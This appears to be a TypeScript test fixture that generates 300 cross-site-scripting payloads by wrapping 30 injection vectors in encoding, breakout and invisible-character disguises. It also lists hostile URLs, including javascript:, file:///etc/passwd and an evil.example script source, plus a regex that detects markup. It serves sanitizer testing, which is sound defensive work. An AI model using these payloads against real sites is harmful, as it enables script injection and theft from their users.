/** What has run in a reader's page before; `X` is where the script goes. */
const CORES = [
  '<script>X</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>X</scr</script>ipt>',
  '<img src=x onerror=X>',
  '<img/src="x"/onerror=X//',
  '<svg/onload=X>',
  '<svg><script>X</script></svg>',
  '<svg><animate onbegin=X attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=X>',
  '<iframe src="javascript:X"></iframe>',
  '<iframe srcdoc="<script>X</script>"></iframe>',
  '<a href="javascript:X">read</a>',
  '<a href="data:text/html,<script>X</script>">read</a>',
  '<object data="javascript:X"></object>',
  '<embed src="javascript:X">',
  '<body onload=X>',
  '<details open ontoggle=X>',
  '<video><source onerror=X></video>',
  '<input autofocus onfocus=X>',
  '<form action="javascript:X"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:X">',
  '<base href="javascript:X//">',
  '<link rel=stylesheet href="javascript:X">',
  '<style>@import "javascript:X"</style>',
  '<noscript><p title="</noscript><img src=x onerror=X>">',
  '<textarea><img title="</textarea><img src=x onerror=X>">',
  '<template><img src=x onerror=X></template>',
  '<!--><img src=x onerror=X>-->',
  '<![CDATA[<img src=x onerror=X>]]>',
  '<?xml version="1.0"?><x onclick=X>',
]

/** Ways in which such a text is hidden or broken out of its place. */
const GUISES: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `Shares rose ${core} 5 %`,
  (core) => `"><x ${core}`,
  (core) => `'-->${core}<!--`,
  (core) => core.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (core) => core.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (core) => core.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (core) => core.replaceAll('<', '\u0000<').replaceAll('on', '\u200bon'),
  (core) => `\u202e${core}\u202c`,
  (core) => core.replaceAll('<', '<\t').replaceAll(' ', '\n') + core.toUpperCase(),
]

/** 300 texts with markup and scripts in every guise; each names its number where a script would stand. */
export const HOSTILE_TEXTS: readonly string[] = CORES.flatMap((core, kind) =>
  GUISES.map((disguise, guise) => disguise(core.replaceAll('X', `alert(${kind * GUISES.length + guise})`))),
)

/** Addresses that are none of a page. */
export const HOSTILE_LINKS: readonly string[] = [
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'vbscript:x',
  '//evil.example/',
  'https://name:word@evil.example/',
  'https://',
  'java\u0000script:alert(1)',
]

/** What is markup, or cannot be seen, in a text that is to be plain. */
export const NOT_PLAIN = /<[a-zA-Z/!?]|[\p{Cc}\p{Cf}\p{Cs}]/u
